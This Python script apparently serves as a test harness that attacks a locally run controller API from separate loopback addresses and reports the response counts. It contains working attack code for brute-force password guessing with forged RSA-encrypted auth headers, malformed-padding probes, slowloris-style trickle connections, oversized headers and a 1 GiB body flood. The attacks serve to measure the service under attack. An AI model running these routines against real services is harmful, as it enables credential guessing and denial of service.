"""Attack a controller, each attack from its own address; print the responses.

A separate program, so that it does not slow down the measured client except through the machine.
argv: URL. Prints one JSON object: for each attack, the number of responses of each kind. All
attacks except the flood run until all guesses are made, so that the measurement is attacked from
beginning to end.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import secrets
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from functools import partial

import aiohttp
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

URL = sys.argv[1]
PORT = int(URL.rpartition(":")[2])
READ, ACT = "/api/v1/task/dags/ob", "/api/v1/ob/start"
GUESSES, CONNECTIONS, PROBES = 10_000, 500, 300
GIB = 1024**3

Attack = Callable[[], Awaitable[Counter[str]]]


def session_at(address: str) -> aiohttp.ClientSession:
    connector = aiohttp.TCPConnector(local_addr=(address, 0), limit=4)
    return aiohttp.ClientSession(connector=connector)


async def fetch_key() -> rsa.RSAPublicKey:
    async with session_at("127.0.0.9") as session, session.get(f"{URL}/api/v1/secret") as response:
        der = base64.b64decode((await response.json())["data"]["public_key"])
    key = serialization.load_der_public_key(der)
    assert isinstance(key, rsa.RSAPublicKey)
    return key


def sign(key: rsa.RSAPublicKey, target: str, auth: str) -> str:
    keys = base64.b64encode(secrets.token_bytes(32)).decode()
    until = str(int(time.time()) + 3600)  # a read may be signed for long
    plain = json.dumps({"auth": auth, "ts": until, "uri": target, "keys": keys}).encode()
    blocks = (plain[at : at + 53] for at in range(0, len(plain), 53))
    return base64.b64encode(b"".join(key.encrypt(b, padding.PKCS1v15()) for b in blocks)).decode()


async def request_code(
    session: aiohttp.ClientSession, method: str, target: str, value: str, body: object = None
) -> str:
    headers = {"X-OCS-Header": value}
    try:
        async with session.request(method, URL + target, headers=headers, data=body) as response:
            code = json.loads(await response.read())["error"]["errCode"]
            return f"{response.status} {code.rpartition('.')[2]}"
    except aiohttp.ClientError:
        return "cut off"


async def guess(key: rsa.RSAPublicKey) -> Counter[str]:
    """Guess passwords, four at a time."""
    signed = [sign(key, READ, f"s3cret-guess-{number}") for number in range(50)]
    numbers = iter(range(GUESSES))

    async def guess_next(session: aiohttp.ClientSession) -> Counter[str]:
        return Counter([await request_code(session, "GET", READ, signed[n % 50]) for n in numbers])

    async with session_at("127.0.0.2") as session:
        return sum(await asyncio.gather(*(guess_next(session) for _ in range(4))), Counter[str]())


async def probe(key: rsa.RSAPublicKey) -> Counter[str]:
    """Blocks whose padding is wrong in many ways, as many as a header may have."""
    size = key.key_size // 8
    codes: Counter[str] = Counter()
    async with session_at("127.0.0.3") as session:
        for number in range(PROBES):
            block = b"\0" + secrets.token_bytes(size - 1)
            value = base64.b64encode(block * (1 + number % 16)).decode()
            codes[await request_code(session, "GET", READ, value)] += 1
    return codes


async def trickle() -> Counter[str]:
    """Connections that send a byte now and then and never a whole header."""
    codes: Counter[str] = Counter()

    async def hold() -> None:
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", PORT, local_addr=("127.0.0.4", 0)
            )
            writer.write(b"GET /api/v1/info HTTP/1.1\r\nX-A: ")
            while True:
                writer.write(b"a")
                await writer.drain()
                try:
                    async with asyncio.timeout(1):
                        if await reader.read(1) == b"":
                            break
                except TimeoutError:
                    continue
            writer.close()
        except OSError:
            pass
        codes["cut off"] += 1

    async with asyncio.timeout(120):
        await asyncio.gather(*(hold() for _ in range(CONNECTIONS)))
    return codes


async def bloat() -> Counter[str]:
    """Headers of 100,000 bytes."""
    async with session_at("127.0.0.5") as session:
        values = [base64.b64encode(secrets.token_bytes(75_000)).decode() for _ in range(20)]
        return Counter([await request_code(session, "GET", READ, value) for value in values])


async def flood(key: rsa.RSAPublicKey) -> Counter[str]:
    """A body of 1 GiB; counts how much of it was taken."""
    sent = 0

    async def stream() -> AsyncIterator[bytes]:
        nonlocal sent
        while sent < GIB:
            sent += 65536
            yield b"A" * 65536

    codes: Counter[str] = Counter()
    async with session_at("127.0.0.6") as session:
        for auth in ("", "s3cret-flood"):
            codes[await request_code(session, "POST", ACT, sign(key, ACT, auth), stream())] += 1
    codes["bytes"] = sent
    return codes


async def repeat(attack: Attack, over: asyncio.Event) -> Counter[str]:
    """Repeat an attack until the guesses are made."""
    codes = await attack()
    while not over.is_set():
        codes += await attack()
    return codes


async def main() -> None:
    os.nice(10)  # it represents other machines, so it must not slow down this one
    key = await fetch_key()
    over = asyncio.Event()

    async def guess_until_end() -> Counter[str]:
        try:
            return await guess(key)
        finally:
            over.set()

    attacks = {
        "guess": guess_until_end(),
        "probe": repeat(partial(probe, key), over),
        "trickle": repeat(trickle, over),
        "bloat": repeat(bloat, over),
        "flood": flood(key),
    }
    results = await asyncio.gather(*attacks.values())
    sys.stdout.write(json.dumps(dict(zip(attacks, results, strict=True))))


if __name__ == "__main__":
    asyncio.run(main())
